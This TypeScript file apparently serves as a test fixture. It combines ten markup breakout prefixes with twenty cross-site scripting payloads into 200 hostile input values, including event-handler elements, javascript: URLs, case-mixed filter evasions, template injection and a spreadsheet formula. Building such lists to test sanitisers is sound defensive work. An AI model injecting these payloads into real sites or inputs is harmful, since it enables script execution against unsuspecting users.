/**
 * Two hundred values that try to become markup or script: ways out of text and attributes, elements and handlers that
 * run by themselves, URLs that are scripts, and spellings that slip through filters, combined.
 */
const BREAKOUTS = ['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '`>', '\\">']
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1) data-injected>',
  '<svg/onload=alert(1) data-injected>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)" data-injected>x</a>',
  '<details open ontoggle=alert(1) data-injected>',
  '<body onpageshow=alert(1)>',
  '<input autofocus onfocus=alert(1) data-injected>',
  '<math><mtext><style><img src onerror=alert(1) data-injected>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<style>@import "//example.com/x.css";*{background:red}</style>',
  '<base href="//example.com/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<ScRiPt >alert(1)</sCrIpT>',
  '{{constructor.constructor("alert(1)")()}}',
  '#{alert(1)}<template><script>alert(1)</script></template>',
  'javascript:alert(1)//',
  '\u202e<img src=x onerror=alert(1) data-injected>',
  '__proto__[innerHTML]=<img src=x onerror=alert(1)>',
  '=HYPERLINK("javascript:alert(1)","x")',
]

export const HOSTILE_VALUES: readonly string[] = BREAKOUTS.flatMap((breakout) =>
  PAYLOADS.map((payload) => breakout + payload),
)
